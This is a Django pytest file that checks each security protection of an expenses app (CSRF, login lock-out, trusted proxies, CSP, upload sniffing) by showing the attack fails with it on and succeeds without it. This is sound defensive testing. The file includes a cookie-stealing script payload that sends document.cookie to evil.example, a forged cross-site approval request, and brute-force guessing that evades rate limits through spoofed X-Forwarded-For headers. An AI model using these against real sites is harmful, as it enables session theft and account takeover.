"""Each security protection, shown to be what stops the attack: the same attack is refused with
the protection on and succeeds when the test removes it (and only it).

If one of the "removed" tests starts failing, the attack no longer depends on the protection it
names: the refusal test beside it may then be passing for another reason, and must be revisited."""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from expenses.models import Expense, ExpenseState
from expenses.tests.factories import make_team, receipt_file

CSRF = "django.middleware.csrf.CsrfViewMiddleware"
CSP = "core.middleware.ContentSecurityPolicyMiddleware"


def without(settings, middleware: str) -> None:
    assert middleware in settings.MIDDLEWARE
    settings.MIDDLEWARE = [m for m in settings.MIDDLEWARE if m != middleware]


# --- CSRF: a forged cross-site form post makes a logged-in manager approve -------------------

def forged_approval(team):
    """What a page on another site can make the manager's browser send: the session cookie rides
    along, but no CSRF token (the attacker cannot read it)."""
    expense = team.expense(submit=True)
    browser = Client(enforce_csrf_checks=True)  # like a browser: nothing exempts the request
    browser.force_login(team.manager.user)
    response = browser.post(reverse("expense-approve", kwargs={"expense_id": expense.pk}),
                            HTTP_ORIGIN="https://evil.example", HTTP_REFERER="https://evil.example/win")
    return response, Expense.objects.get(pk=expense.pk).state


@pytest.mark.django_db
def test_csrf_refuses_a_forged_cross_site_approval():
    response, state = forged_approval(make_team())
    assert response.status_code == 403
    assert state == ExpenseState.SUBMITTED


@pytest.mark.django_db
def test_without_the_csrf_middleware_the_forged_approval_goes_through(settings):
    without(settings, CSRF)
    response, state = forged_approval(make_team())
    assert response.status_code == 302
    assert state == ExpenseState.APPROVED


@pytest.mark.django_db
def test_the_api_session_login_also_needs_csrf_even_without_the_middleware(settings):
    # DRF's SessionAuthentication checks CSRF itself: the API stays protected on its own.
    without(settings, CSRF)
    team = make_team()
    expense = team.expense(submit=True)
    browser = APIClient(enforce_csrf_checks=True)
    browser.force_login(team.manager.user)
    response = browser.post(f"/api/v1/expenses/{expense.pk}/approve/", {}, format="json")
    assert response.status_code == 403
    assert Expense.objects.get(pk=expense.pk).state == ExpenseState.SUBMITTED


# --- The lock-out: password guessing through every way in (web, admin, token) ------------------

LOCKOUT_BACKEND = "axes.backends.AxesStandaloneBackend"
RIGHT = "correct-horse-battery-9"


@pytest.fixture
def victim(db, redis_client, django_user_model):
    return django_user_model.objects.create_user("victim", password=RIGHT, is_staff=True, is_superuser=True)


def guess(*, username="victim", tries: int, ip: str = "203.0.113.7", usernames=None, door: str = "web",
          forwarded=None) -> tuple[int, bool]:
    """``tries`` wrong passwords, then the right one, through ``door`` (web, admin or token);
    returns the last status and whether the right password got in. ``forwarded`` gives each
    request its own X-Forwarded-For (a guesser pretending to be many clients)."""
    names = usernames or [username]

    def attempt(client, name, password, i):
        headers = {"HTTP_X_FORWARDED_FOR": forwarded(i)} if forwarded else {}
        if door == "token":
            response = APIClient(REMOTE_ADDR=ip, **headers).post(
                "/api/v1/auth/token/", {"username": name, "password": password}, format="json")
            return response, response.status_code == 200 and "token" in response.json()
        url = "/admin/login/?next=/admin/" if door == "admin" else "/login/"
        response = client.post(url, {"username": name, "password": password}, **headers)
        return response, "_auth_user_id" in client.session

    client = Client(REMOTE_ADDR=ip)
    for i in range(tries):
        attempt(client, names[i % len(names)], f"guess-{i}", i)
    response, got_in = attempt(client, username, RIGHT, tries)
    return response.status_code, got_in


@pytest.mark.parametrize("door", ["web", "admin", "token"])
def test_the_lock_out_stops_a_guess_after_too_many_failures_on_the_account(victim, settings, door):
    settings.LOGIN_MAX_FAILURES = 5
    assert guess(tries=5, door=door) == (429, False)


@pytest.mark.parametrize("door", ["web", "admin", "token"])
def test_without_the_lock_out_the_same_guessing_gets_in(victim, settings, door):
    settings.LOGIN_MAX_FAILURES = 5
    settings.AUTHENTICATION_BACKENDS = [b for b in settings.AUTHENTICATION_BACKENDS if b != LOCKOUT_BACKEND]
    assert guess(tries=5, door=door)[1] is True


def test_the_lock_out_stops_guessing_spread_over_accounts_from_one_address(victim, settings):
    settings.LOGIN_MAX_FAILURES = 2  # per IP: 4 x 2 = 8 failures, spread so no account reaches 2
    names = [f"someone-{i}" for i in range(8)]
    assert guess(tries=8, usernames=names) == (429, False)


def test_without_the_lock_out_guessing_spread_over_accounts_logs_in(victim, settings):
    settings.LOGIN_MAX_FAILURES = 2
    settings.AUTHENTICATION_BACKENDS = [b for b in settings.AUTHENTICATION_BACKENDS if b != LOCKOUT_BACKEND]
    assert guess(tries=8, usernames=[f"someone-{i}" for i in range(8)]) == (302, True)


def test_a_lock_out_is_per_account_and_address_not_global(victim, settings, django_user_model):
    settings.LOGIN_MAX_FAILURES = 5
    assert guess(tries=5) == (429, False)
    django_user_model.objects.create_user("bystander", password=RIGHT)
    client = Client(REMOTE_ADDR="198.51.100.1")
    client.post("/login/", {"username": "bystander", "password": RIGHT})
    assert "_auth_user_id" in client.session


# --- Trusted proxies: a guesser who forges X-Forwarded-For -------------------------------------

SPREAD = [f"someone-{i}" for i in range(8)]


def forged(i: int) -> str:
    return f"192.0.2.{i + 1}"


@pytest.mark.parametrize("door", ["web", "token"])
def test_a_forged_forwarded_header_does_not_escape_the_address_counter(victim, settings, door):
    settings.LOGIN_MAX_FAILURES = 2
    assert settings.TRUSTED_PROXIES == []
    assert guess(tries=8, usernames=SPREAD, forwarded=forged, door=door) == (429, False)


@pytest.mark.parametrize("door", ["web", "token"])
def test_trusting_every_peer_lets_a_forged_forwarded_header_escape_it(victim, settings, door):
    settings.LOGIN_MAX_FAILURES = 2
    settings.TRUSTED_PROXIES = ["0.0.0.0/0"]  # the rule taken out: anyone is "our proxy"
    assert guess(tries=8, usernames=SPREAD, forwarded=forged, door=door)[1] is True


# --- Content-Security-Policy: injected inline script ------------------------------------------

@pytest.mark.django_db
def test_pages_forbid_inline_script_with_the_csp_middleware(client):
    policy = client.get("/login/")["Content-Security-Policy"]
    script_src = policy.split("script-src")[1].split(";")[0]
    assert script_src.strip() == "'self'"


@pytest.mark.django_db
def test_without_the_csp_middleware_nothing_forbids_inline_script(client, settings):
    without(settings, CSP)
    assert "Content-Security-Policy" not in client.get("/login/")


# --- Upload content sniffing: an HTML page uploaded as a "receipt" ------------------------------

HTML = b"<html><script>document.location='https://evil.example/?c='+document.cookie</script></html>"


def upload_html_as_png(team):
    draft = team.expense(receipt=False)
    client = APIClient()
    client.force_authenticate(team.employee.user)
    response = client.post(f"/api/v1/expenses/{draft.pk}/receipt/", {"receipt": receipt_file("receipt.png", HTML)},
                           format="multipart")
    return response, Expense.objects.get(pk=draft.pk)


@pytest.mark.django_db
def test_content_sniffing_refuses_html_named_png():
    response, draft = upload_html_as_png(make_team())
    assert response.status_code == 400 and response.json()["code"] == "invalid_receipt"
    assert not draft.receipt


@pytest.mark.django_db
def test_without_content_sniffing_the_html_would_be_stored_as_a_receipt(monkeypatch):
    # Trust the declared type instead of the bytes (what the sniffing replaces).
    monkeypatch.setattr("expenses.receipts.sniff", lambda head: "image/png")
    response, draft = upload_html_as_png(make_team())
    assert response.status_code == 200
    assert draft.receipt and draft.receipt.read() == HTML
